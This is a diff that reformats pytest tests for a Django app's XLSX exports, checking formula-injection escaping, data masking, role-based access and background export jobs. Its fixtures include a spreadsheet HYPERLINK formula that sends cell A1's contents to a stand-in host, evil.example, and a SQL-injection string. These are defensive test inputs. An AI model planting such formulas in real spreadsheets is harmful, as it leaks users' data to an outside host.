@@ -15,10 +15,22 @@ from people.actions import MemberData, save_member
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 
 
-@pytest.mark.parametrize("raw,expected", [
-    ("=1+1", "'=1+1"), ("+86", "'+86"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
-    ("\rx", "'\rx"), ("张三", "张三"), ("a=b", "a=b"), ("", ""), (-5, -5), (None, None),
-])
+@pytest.mark.parametrize(
+    "raw,expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+86", "'+86"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("张三", "张三"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
+    ],
+)
 def test_escape_cell(raw, expected):
     assert escape_cell(raw) == expected
 
@@ -27,8 +39,9 @@ def _sheet(response):
     assert response.status_code == 200, response
     assert response["Content-Type"] == XLSX_CONTENT_TYPE
     assert "attachment" in response["Content-Disposition"]
-    return load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming
-                                    else response.content)).active
+    return load_workbook(
+        io.BytesIO(b"".join(response.streaming_content) if response.streaming else response.content)
+    ).active
 
 
 def _values(sheet):
@@ -37,9 +50,18 @@ def _values(sheet):
 
 def test_member_export_is_masked_escaped_and_audited(cast, client):
     p = cast.places
-    save_member(acting_user=None, data=MemberData(
-        name=EVIL[:32], id_number=_id(300), phone="13812345678", party_org=p.org_unit_a, unit=p.unit_a,
-        residence_area=p.a1, skills="-1 OR 1=1"))
+    save_member(
+        acting_user=None,
+        data=MemberData(
+            name=EVIL[:32],
+            id_number=_id(300),
+            phone="13812345678",
+            party_org=p.org_unit_a,
+            unit=p.unit_a,
+            residence_area=p.a1,
+            skills="-1 OR 1=1",
+        ),
+    )
     cast.login(client, "street")
     sheet = _sheet(client.get(reverse("jobs:export_start", args=["members"])))
     rows = _values(sheet)
@@ -75,11 +97,19 @@ def test_unit_admin_exports_only_their_members(cast, client):
     assert names == {"王五", "赵六"}
 
 
-@pytest.mark.parametrize("who,name,status", [
-    ("resident", "members", 403), ("unit", "residents", 403), ("member", "units", 403),
-    ("dept", "applicants", 403), ("grid", "units", 403), ("nobody", "areas", 403),
-    ("street", "nonsense", 404), ("admin", "nonsense", 404),
-])
+@pytest.mark.parametrize(
+    "who,name,status",
+    [
+        ("resident", "members", 403),
+        ("unit", "residents", 403),
+        ("member", "units", 403),
+        ("dept", "applicants", 403),
+        ("grid", "units", 403),
+        ("nobody", "areas", 403),
+        ("street", "nonsense", 404),
+        ("admin", "nonsense", 404),
+    ],
+)
 def test_export_roles(cast, client, who, name, status):
     cast.login(client, who)
     assert client.get(reverse("jobs:export_start", args=[name])).status_code == status
@@ -104,7 +134,9 @@ def test_every_list_exports_for_the_admin(cast, client, name, django_assert_max_
 def test_large_export_runs_as_a_job_with_a_download(cast, client, settings, run_on_commit):
     settings.EXPORT_INLINE_MAX_ROWS = 2
     cast.login(client, "street")
-    response = run_on_commit(client.get, reverse("jobs:export_start", args=["members"]), {"in_service": "true"})
+    response = run_on_commit(
+        client.get, reverse("jobs:export_start", args=["members"]), {"in_service": "true"}
+    )
     job = Job.objects.get(kind=JobKind.EXPORT)
     assert response.status_code == 302 and response.url == reverse("jobs:job_detail", args=[job.public_id])
     assert job.status == JobStatus.SUCCEEDED and job.result_file and job.percent == 100
